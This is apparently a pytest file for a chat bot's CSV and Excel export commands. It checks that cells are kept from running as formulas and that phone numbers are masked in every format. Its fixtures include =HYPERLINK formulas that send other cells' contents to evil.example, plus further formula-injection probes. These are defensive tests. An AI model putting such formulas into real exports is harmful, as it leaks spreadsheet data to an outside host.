"""Exports are opened by people in spreadsheet programs: no cell may run as a formula, and
`stats --csv` keeps its promise of "no phone numbers" for every way a number is typed.

Files are read back with csv and openpyxl, as a clerk's spreadsheet program would.
"""
from __future__ import annotations

import csv
import time

import pytest

HOSTILE_QUESTION = '=HYPERLINK("http://evil.example/?x="&E2,"点我")'
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B2&B3,"名单")'
PHONES = ["+8613812345678", "008613912345678", "138 1234 5671", "138-1234-5672", "１３８１２３４５６７３",
          "0571-88886666"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def cli_env(make_config):
    from bot.features import open_bot_db as open_db

    config = make_config()
    db = open_db(config.db_path)
    obj = {"config_path": str(config.source), "data_dir": str(config.data_dir)}
    return config, db, obj


def _question(db, uid: str, text: str) -> None:
    db["questions"].insert({"transport": "telegram", "user_id": uid, "chat_id": uid, "chat_kind": "private",
                            "language": "zh", "text": text, "status": "abstained", "created_at": time.time()})


def _no_formula(value) -> bool:
    return not (isinstance(value, str) and value.startswith(FORMULA_STARTS))


def test_stats_csv_neutralises_formulas_and_masks_every_phone_format(cli_env, tmp_path):
    from click.testing import CliRunner

    from cli.stats import stats

    _, db, obj = cli_env
    db["members"].insert({"name": "-1+1", "mobile": "13900001111", "role": "member", "muted": 0,
                          "sector": "@SUM(1,2)", "district": "\t=1+2", "telegram_user_id": "tg:2"})
    _question(db, "tg:1", HOSTILE_QUESTION)
    for n, phone in enumerate(PHONES):
        _question(db, "tg:2", f"我的电话{phone}收不到验证码{n}")
    out = tmp_path / "log.csv"
    result = CliRunner().invoke(stats, ["--csv", str(out)], obj=obj)
    assert result.exit_code == 0, result.output
    raw = out.read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(raw.splitlines()))
    assert len(rows) == 1 + len(PHONES)
    assert all(_no_formula(v) for r in rows for v in r.values()), rows
    assert rows[0]["question"] == "'" + HOSTILE_QUESTION
    assert rows[1]["member_name"] == "'-1+1" and rows[1]["sector"] == "'@SUM(1,2)"
    for phone, row in zip(PHONES, rows[1:]):
        digits = "".join(ch for ch in row["question"] if ch.isdigit())
        assert "****" in row["question"] and len(digits) <= 9, (phone, row["question"])
    for secret in ("13812345678", "13912345678", "1234567", "88886666", "１３８"):
        assert secret not in raw


def test_members_export_writes_no_live_formula(cli_env, tmp_path):
    from click.testing import CliRunner
    from openpyxl import load_workbook

    from cli.members import members

    _, db, obj = cli_env
    db["members"].insert({"name": HOSTILE_NAME, "mobile": "13812345678", "role": "member", "muted": 0,
                          "sector": "+经济界", "district": "@东街", "telegram_user_id": "tg:7"})
    db["members"].insert({"name": "国外委员", "mobile": "+4915123456789", "role": "member", "muted": 0})
    runner = CliRunner()
    xlsx = tmp_path / "x.xlsx"
    result = runner.invoke(members, ["export", str(xlsx), "--with-phones"], obj=obj)
    assert result.exit_code == 0, result.output
    sheet = load_workbook(xlsx).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(_no_formula(c.value) for c in cells), [c.value for c in cells]
    values = [c.value for c in cells]
    assert "'" + HOSTILE_NAME in values and "'+4915123456789" in values and "13812345678" in values

    out = tmp_path / "x.csv"
    result = runner.invoke(members, ["export", str(out), "--with-phones"], obj=obj)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert all(_no_formula(v) for r in rows for v in r), rows

    # The with-phones export still re-imports: the quote is not part of the number or the name.
    from bot.features.roster import import_roster

    for path in (xlsx, out):
        report = import_roster(db, path)
        assert not report.rejected and len(report.unchanged) == 2, [r.detail for r in report.rows]
